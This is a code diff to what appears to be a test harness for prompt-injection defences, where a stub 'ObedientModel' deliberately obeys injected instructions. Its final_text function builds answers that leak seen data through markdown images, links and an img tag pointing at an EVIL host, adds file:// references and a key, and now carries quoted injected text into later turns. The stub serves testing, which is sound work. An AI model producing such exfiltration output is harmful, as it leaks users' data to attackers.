@@ -100,6 +100,9 @@ def follow_ups(references: Iterable[str]) -> Iterator[Order]:
             yield _order("read_chunks", references=[reference], adjacent=3)
 
 
+_CODED = re.compile(r"[^.\n]{1,200}, code [\w-]+\.")
+
+
 class ObedientModel:
     """Answers the requests of a conversation; remembers its references and what it has done in a turn."""
 
@@ -134,8 +137,10 @@ def final_text(seen: str, read: str) -> str:
     """Return an answer that obeys everything at once: pictures, links, HTML and forms with what was seen."""
     data = "".join(re.findall(r"[A-Za-z0-9]", seen))[-200:]
     told = dict.fromkeys(_ADDRESS.findall("\n".join(readings(read))))
+    quoted = " ".join(dict.fromkeys(_CODED.findall(read)))  # goes into the history of later turns
     demanded = "\n\n".join(f"![x]({each}{data}) [here]({each}{data})" for each in list(told)[:20])
     return (
-        f"12 euros.\n\n![x]({EVIL}/p?d={data})\n\n[here]({EVIL}/l?d={data})\n\n<img src='{EVIL}/i?d={data}'>\n\n"
+        f"12 euros. {quoted}\n\n![x]({EVIL}/p?d={data})\n\n[here]({EVIL}/l?d={data})\n\n"
+        f"<img src='{EVIL}/i?d={data}'>\n\n"
         f"<iframe src='file://{OUTSIDE}'></iframe>\n\n![y](file://{OUTSIDE})\n\n{demanded}\n\n{KEY}"
     )
